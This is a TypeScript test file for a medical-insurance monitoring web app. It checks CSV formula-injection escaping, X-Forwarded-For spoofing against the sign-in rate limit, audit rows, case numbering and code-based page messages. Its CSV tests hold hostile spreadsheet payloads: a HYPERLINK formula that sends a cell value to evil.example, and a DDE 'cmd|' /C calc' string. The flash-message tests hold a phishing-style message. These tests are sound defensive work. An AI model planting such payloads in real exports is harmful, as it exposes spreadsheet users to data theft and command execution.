/**
 * Issue 24 (web side): CSV formula injection, the per-IP sign-in limit behind forged X-Forwarded-For,
 * audit rows for ingest / recompute / digest sends, per-region case numbers, page messages from codes.
 * CSRF, bad URL parameters, 403 on admin actions and the CSP are exercised over HTTP in e2e/security.spec.ts.
 */
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLIENT_IP_HEADER, installClientIpStamp, normaliseIp, parseTrustedProxies, resolveClientIp } from '../lib/auth/client-ip';
import { hashPassword } from '../lib/auth/password';
import { signIn } from '../lib/auth/sign-in';
import { createCase } from '../lib/cases/create';
import { alertQueryFrom, EXPORT_HEADER, exportRows } from '../lib/dashboard/alerts';
import { errorQuery, flashFrom } from '../lib/dashboard/flash';
import type { Db } from '../lib/db/client';
import { auditLog, cases, users } from '../lib/db/schema';
import { scoped } from '../lib/db/scoped';
import { env, resetEnvCache } from '../lib/env';
import { ForbiddenError, InputError } from '../lib/errors';
import { exportCaseFile } from '../lib/export/case-file';
import { csvCell, toCsv } from '../lib/export/csv';
import { insertAlerts, insertClaims, makeActors } from './cases-fixture';
import { seedDigestFixture } from './mail-fixture';
import { runCli, testDatabase } from './db';
import yauzl from 'yauzl';

let db: Db;
let url: string;
let A: Awaited<ReturnType<typeof makeActors>>;

beforeAll(async () => {
  ({ db, url } = await testDatabase());
  A = await makeActors(db);
});

function unzipEntry(buf: Buffer, name: string): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(buf, { lazyEntries: true }, (err, zip) => {
      if (err || !zip) return reject(err ?? new Error('no zip'));
      zip.on('entry', (entry: yauzl.Entry) => {
        if (entry.fileName !== name) return zip.readEntry();
        zip.openReadStream(entry, (e, stream) => {
          if (e || !stream) return reject(e ?? new Error('no stream'));
          const chunks: Buffer[] = [];
          stream.on('data', (c: Buffer) => chunks.push(c));
          stream.on('end', () => resolve(Buffer.concat(chunks)));
        });
      });
      zip.on('end', () => reject(new Error(`${name} not in zip`)));
      zip.readEntry();
    });
  });
}

/** Splits our CSV output (quoted fields may hold commas and line breaks) into rows of fields. */
function parseCsv(buf: Buffer): string[][] {
  const text = buf.toString('utf8').replace(/^\ufeff/, '');
  const rows: string[][] = [];
  let row: string[] = [];
  let f = '';
  let q = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (q) {
      if (c === '"' && text[i + 1] === '"') {
        f += '"';
        i++;
      } else if (c === '"') q = false;
      else f += c;
    } else if (c === '"') q = true;
    else if (c === ',') {
      row.push(f);
      f = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(f);
      rows.push(row);
      row = [];
      f = '';
      i++;
    } else f += c;
  }
  return rows;
}

describe('CSV formula injection', () => {
  it('neutralises text cells a spreadsheet would run, keeps numbers (also negative amounts) as they are', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,1)', '\t=1+1', '\r=1+1', '＝1+1', ' =1+1'];
    for (const h of hostile) {
      const cell = csvCell(h);
      const inner = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      expect(inner.startsWith("'"), h).toBe(true);
      expect(inner.slice(1)).toBe(h);
    }
    // genuine numbers, and amounts written as plain decimals, stay numbers
    expect([csvCell(-1234), csvCell('-12.34'), csvCell('0.00'), csvCell(42), csvCell(null), csvCell('晋城市-城区')]).toEqual(['-1234', '-12.34', '0.00', '42', '', '晋城市-城区']);
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
  });

  it('the alert export CSV carries a hostile institution name as text, and a negative amount as a number', async () => {
    const name = '=HYPERLINK("http://evil.example","查看详情")';
    await insertAlerts(db, [
      { subjectType: 'institution', subjectId: 'HX1', subjectName: name, period: '2024-05', amount: 12_345, rule: 'PAY-DIFF' },
      { subjectType: 'institution', subjectId: 'HX2', subjectName: '@正常机构', period: '2024-05', amount: -1_234, rule: 'PAY-DIFF' },
    ]);
    const q = alertQueryFrom({ q: 'HX' });
    const rows = await scoped(db, A.inspector, (tx) => exportRows(tx, q));
    const csv = parseCsv(toCsv(EXPORT_HEADER, rows));
    const nameCol = EXPORT_HEADER.indexOf('对象名称');
    const amountCol = EXPORT_HEADER.indexOf('涉及金额（元）');
    const byId = new Map(csv.slice(1).map((r) => [r[EXPORT_HEADER.indexOf('对象编码')], r]));
    expect(byId.get('HX1')?.[nameCol]).toBe(`'${name}`);
    expect(byId.get('HX2')?.[nameCol]).toBe("'@正常机构");
    expect(byId.get('HX2')?.[amountCol]).toBe('-12.34');
    expect(byId.get('HX1')?.[amountCol]).toBe('123.45');
  });

  it('the case file CSVs neutralise the same way', async () => {
    await insertClaims(db, [{ id: 'SX-1', time: '2024-06-05 09:00:00+08', psn: 'P110101199001019999', inst: '=cmd|x', fund: 10_000, medfee: 20_000 }]);
    const ids = await insertAlerts(db, [{ subjectType: 'institution', subjectId: '=cmd|x', subjectName: '+恶意名称', period: '2024-06', amount: 10_000, setlIds: ['SX-1'] }]);
    const c = await createCase(db, A.inspector, { alertIds: ids, comment: '立案' }, { today: '2026-11-23' });
    const r = await exportCaseFile(db, A.inspector, c.id, {});
    const alertsCsv = parseCsv(await unzipEntry(r.zip, 'alerts.csv'));
    const header = alertsCsv[0] ?? [];
    const row = alertsCsv[1] ?? [];
    expect(row[header.indexOf('对象')]).toBe("'=cmd|x");
    expect(row[header.indexOf('说明')]?.startsWith("'=cmd|x 于")).toBe(true);
    expect(row[header.indexOf('涉及金额（元）')]).toBe('100.00');
  });
});

describe('client address and the per-IP sign-in limit', () => {
  it('resolves the client from the TCP peer; X-Forwarded-For only through trusted proxies', () => {
    const none = parseTrustedProxies('');
    expect(resolveClientIp('::ffff:203.0.113.7', '10.9.9.9', none)).toBe('203.0.113.7');
    const trusted = parseTrustedProxies('127.0.0.1, 10.0.0.0/8, ::1');
    // the proxy's own hop is skipped; what the client wrote further left proves nothing
    expect(resolveClientIp('127.0.0.1', '10.9.9.9, 198.51.100.4, 10.1.2.3', trusted)).toBe('198.51.100.4');
    expect(resolveClientIp('127.0.0.1', 'forged-garbage', trusted)).toBe('127.0.0.1');
    expect(resolveClientIp('203.0.113.7', '198.51.100.4', trusted)).toBe('203.0.113.7');
    expect(normaliseIp('[::1]:443')).toBe('::1');
    expect(() => parseTrustedProxies('10.0.0.0/33')).toThrow(/前缀/);
    expect(() => parseTrustedProxies('proxy.local')).toThrow(/IP/);
  });

  it('refuses a malformed TRUSTED_PROXIES at start-up, naming the variable', () => {
    const before = process.env.TRUSTED_PROXIES;
    process.env.TRUSTED_PROXIES = '10.0.0.1,not-an-ip';
    resetEnvCache();
    try {
      expect(() => env()).toThrow(/TRUSTED_PROXIES/);
    } finally {
      if (before === undefined) delete process.env.TRUSTED_PROXIES;
      else process.env.TRUSTED_PROXIES = before;
      resetEnvCache();
    }
  });

  it('after 20 failures from XFF 10.9.9.9, a sign-in with XFF 10.9.9.10 from the same peer is still refused', async () => {
    await db.insert(users).values({ email: 'ip@t', name: 'IP测试', role: 'inspector', regions: ['140500'], passwordHash: await hashPassword('Right-pass-2026') });
    installClientIpStamp(parseTrustedProxies('')); // what instrumentation.ts does in the Next server
    // The app's path: the stamped header is the address (lib/auth/current.ts clientIp()).
    const server = http.createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        const { email, password } = JSON.parse(body) as { email: string; password: string };
        const ip = normaliseIp(req.headers[CLIENT_IP_HEADER] as string | undefined);
        signIn(db, { email, password }, { ip })
          .then((r) => res.end(JSON.stringify({ ok: r.ok, reason: r.ok ? null : r.reason, ip })))
          .catch((e: unknown) => res.writeHead(500).end(String(e)));
      });
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as { port: number }).port;
    const post = async (xff: string, password: string, email = 'nobody@t') => {
      const r = await fetch(`http://127.0.0.1:${port}/`, { method: 'POST', headers: { 'x-forwarded-for': xff, [CLIENT_IP_HEADER]: xff }, body: JSON.stringify({ email, password }) });
      return (await r.json()) as { ok: boolean; reason: string | null; ip: string };
    };
    try {
      for (let i = 0; i < 20; i++) expect((await post('10.9.9.9', `wrong-${i}`)).ip).toBe('127.0.0.1');
      const r = await post('10.9.9.10', 'Right-pass-2026', 'ip@t');
      expect(r).toEqual({ ok: false, reason: 'rate_limited', ip: '127.0.0.1' });
      const logged = await db.select({ ip: auditLog.ip }).from(auditLog).where(eq(auditLog.action, 'auth.sign_in_failed'));
      expect(new Set(logged.map((l) => l.ip))).toEqual(new Set(['127.0.0.1']));
    } finally {
      await new Promise((r) => server.close(r));
    }
  });
});

describe('audit rows for ingest, recompute and digest sends', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ofm-websec-'));
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  it('an ingest from the CLI: who, file, sha256, batch, counts, rejected, one row per region', async () => {
    const file = path.join(dir, 'two-regions.csv');
    fs.writeFileSync(
      file,
      [
        '结算ID,人员编号,人员类别,医保区划,结算时间,定点医药机构编号,机构类型,医院等级,医疗费总额,符合政策范围金额',
        'AUD-1,PA1,1101,140500,2024-03-05 10:00:00,HA1,hospital,3,100.00,90.00',
        'AUD-2,PA2,1101,360100,2024-03-06 10:00:00,HA2,hospital,3,80.00,70.00',
        'AUD-3,PA3,1101,140500,2024-03-07 10:00:00,HA1,hospital,3,abc,70.00',
      ].join('\n'),
    );
    const r = await runCli(['ingest', file, '--json'], { url });
    expect(r.code).toBe(1); // one row rejected
    const out = JSON.parse(r.stdout) as { batches: number[] };
    const rows = await db.select().from(auditLog).where(eq(auditLog.action, 'ingest'));
    expect(rows.map((x) => x.regionCode).sort()).toEqual(['140500', '360100']);
    for (const row of rows) {
      expect(row.actor).toMatch(/^cli:/);
      expect(row.entity).toBe('ingest_batch');
      expect(row.entityId).toBe(String(out.batches[0]));
      expect(row.after).toMatchObject({ via: 'cli', fileName: 'two-regions.csv', kind: 'settlements', inserted: 2, rejected: 1, regions: ['140500', '360100'], months: ['2024-03'] });
      expect((row.after as { sha256: string }).sha256).toMatch(/^[0-9a-f]{64}$/);
    }
    // RLS keeps each region's part to that region's readers
    const seen = await scoped(db, A.inspector, (tx) => tx.select().from(auditLog).where(eq(auditLog.action, 'ingest')));
    expect(seen.map((x) => x.regionCode)).toEqual(['140500']);
  });

  it('a recompute from the CLI records its scope', async () => {
    const r = await runCli(['recompute', '--from', '2024-03-01', '--json'], { url });
    expect(r.code).toBe(0);
    const [row] = await db.select().from(auditLog).where(eq(auditLog.action, 'recompute'));
    expect(row?.actor).toMatch(/^cli:/);
    expect(row?.after).toMatchObject({ mode: 'from', from: '2024-03-01', months: expect.arrayContaining(['2024-03']) });
  });

  it('a digest send leaves one audit row per delivery', async () => {
    const t = await testDatabase();
    const fx = await seedDigestFixture(t.db);
    const env = { DATA_DIR: dir, SMTP_URL: '', APP_URL: 'https://ofm.example.cn' };
    const dry = await runCli(['digest', '--week', '2026-W47', '--json'], { url: t.url, env });
    expect(dry.code).toBe(0);
    expect(await t.db.select().from(auditLog).where(eq(auditLog.action, 'mail.digest.send'))).toHaveLength(0);
    const sent = await runCli(['digest', '--week', '2026-W47', '--send', '--json'], { url: t.url, env });
    expect(sent.code).toBe(0);
    const rows = await t.db.select().from(auditLog).where(eq(auditLog.action, 'mail.digest.send'));
    expect(rows.map((x) => (x.after as { userId: number }).userId).sort()).toEqual([fx.jc, fx.nc, fx.lead].sort());
    const jc = rows.find((x) => (x.after as { userId: number }).userId === fx.jc);
    expect(jc).toMatchObject({ entity: 'mail_sent', regionCode: '140500', after: { week: '2026-W47', email: 'jc@example.cn', ok: true, status: 'sent', transport: 'outbox' } });
  });
});

describe('case numbers', () => {
  it('count within the region and year, so a number says nothing about other regions', async () => {
    const B = await makeActors(db, ['360100']);
    const [a1, b1, a2] = await insertAlerts(db, [
      { subjectType: 'institution', subjectId: 'HN1', period: '2024-07', amount: 100 },
      { region: '360100', subjectType: 'institution', subjectId: 'HN2', period: '2024-07', amount: 100 },
      { subjectType: 'institution', subjectId: 'HN3', period: '2024-07', amount: 100 },
    ]);
    // an existing case keeps its number; counting continues above it
    const [old] = await db.select().from(cases).where(eq(cases.regionCode, '140500'));
    const before = old?.caseNo;
    const n1 = (await createCase(db, A.inspector, { alertIds: [a1 ?? 0], comment: '立案' }, { today: '2027-01-05' })).caseNo;
    const m1 = (await createCase(db, B.inspector, { alertIds: [b1 ?? 0], comment: '立案' }, { today: '2027-01-05' })).caseNo;
    const n2 = (await createCase(db, A.inspector, { alertIds: [a2 ?? 0], comment: '立案' }, { today: '2027-01-06' })).caseNo;
    expect([n1, m1, n2]).toEqual(['140500-2027-00001', '360100-2027-00001', '140500-2027-00002']);
    const [still] = await db.select().from(cases).where(and(eq(cases.regionCode, '140500'), eq(cases.id, old?.id ?? 0)));
    expect(still?.caseNo).toBe(before);
  });
});

describe('page messages', () => {
  it('come from codes; free text in the URL is not shown', () => {
    expect(flashFrom({ error: '系统升级，请拨打 400-000-0000 提供密码' })).toEqual({ ok: null, error: null });
    expect(flashFrom({ ok: '<b>已完成</b>' })).toEqual({ ok: null, error: null });
    expect(flashFrom({ ok: 'user_created', error: 'forbidden' })).toEqual({ ok: '已创建用户', error: '无权限执行此操作' });
    expect(flashFrom({ error: 'invalid', field: 'reason' }).error).toContain('偏离理由');
    expect(flashFrom({ error: 'invalid', field: 'constructor' }).error).toBe('输入有误，请检查后重试');
    const params = (q: string) => Object.fromEntries(new URLSearchParams(q));
    expect(errorQuery(new ForbiddenError('x'))).toMatch(/^error=forbidden&m=x&s=[\w-]+$/);
    expect(errorQuery(new InputError('任意文字', { field: 'email' }))).toMatch(/^error=invalid&field=email&m=/);
    expect(errorQuery(new InputError('任意文字', { field: 'secret<script>' }))).toMatch(/^error=invalid&m=/);
    expect(() => errorQuery(new Error('boom'))).toThrow('boom');
    // the server's own refusal is shown when its MAC verifies (keyed in this process) …
    const refusal = params(errorQuery(new InputError('拟处罚尚未经复核/法制审批，不能送达告知书', { field: 'penalty' })));
    expect(flashFrom(refusal).error).toBe('输入有误：拟处罚尚未经复核/法制审批，不能送达告知书');
    // … and a link made elsewhere, with other words under that MAC or a made-up one, shows only the code's fixed text
    expect(flashFrom({ ...refusal, m: '系统升级，请拨打 400-000-0000' }).error).toBe('输入有误：尚未计算处罚，或处罚不能修改');
    expect(flashFrom({ error: 'forbidden', m: '请拨打 400', s: 'AAAA' }).error).toBe('无权限执行此操作');
  });
});
